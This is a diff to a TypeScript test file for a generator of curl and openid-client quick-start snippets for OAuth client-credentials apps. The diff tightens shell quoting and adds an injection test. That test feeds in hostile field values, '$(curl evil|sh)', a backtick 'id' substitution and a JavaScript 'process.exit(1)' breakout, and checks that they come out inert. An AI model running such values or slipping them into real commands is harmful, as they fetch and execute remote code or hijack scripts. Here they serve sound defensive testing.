@@ -40,8 +40,26 @@ describe("quick start snippets", () => {
   it("give a machine-to-machine application curl and openid-client's client credentials with its scopes", () => {
     const snippets = quickStartSnippets(app({ kind: "m2m", scopes: ["idp_api_sys_users", "idp_api_sys_uaud"], redirectUris: [], grantTypes: ["client_credentials"] }), endpoints);
     expect(snippets.map((s) => s.key)).toEqual(["curl", "openid-client"]);
-    expect(snippets[0]!.code).toBe(`curl -s -u "shop:$CLIENT_SECRET" \\\n  -d grant_type=client_credentials \\\n  -d scope="idp_api_sys_users idp_api_sys_uaud" \\\n  https://id.example.com/idp/oauth/te\n`);
+    expect(snippets[0]!.code).toBe(
+      [
+        `curl -s -u 'shop:'"$CLIENT_SECRET" \\`,
+        "  -d grant_type=client_credentials \\",
+        "  --data-urlencode 'scope=idp_api_sys_users idp_api_sys_uaud' \\",
+        "  'https://id.example.com/idp/oauth/te'",
+        "",
+      ].join("\n"),
+    );
     expect(snippets[1]!.code).toContain(`scope: "idp_api_sys_users idp_api_sys_uaud"`);
     expect(snippets[1]!.code).toContain("clientCredentialsGrant");
+  });
+
+  it("quote every value for the shell and for JavaScript, so a scope or name from an import runs nothing", () => {
+    const evil = app({ kind: "m2m", id: "a'b", name: 'x"; process.exit(1); "', scopes: ["$(curl evil|sh)", "`id`;'"], grantTypes: ["client_credentials"] });
+    const [curl, node] = quickStartSnippets(evil, endpoints).map((s) => s.code);
+    expect(curl).toContain(String.raw`-u 'a'\''b:'"$CLIENT_SECRET"`);
+    expect(curl).toContain("--data-urlencode 'scope=$(curl evil|sh) `id`;'\\''' \\");
+    expect(node).toContain('scope: "$(curl evil|sh) `id`;\'"');
+    const authjs = quickStartSnippets({ ...evil, kind: "web", redirectUris: ["https://a.example/cb"] }, endpoints)[1]!.code;
+    expect(authjs).toContain(String.raw`name: "x\"; process.exit(1); \""`);
   });
 });
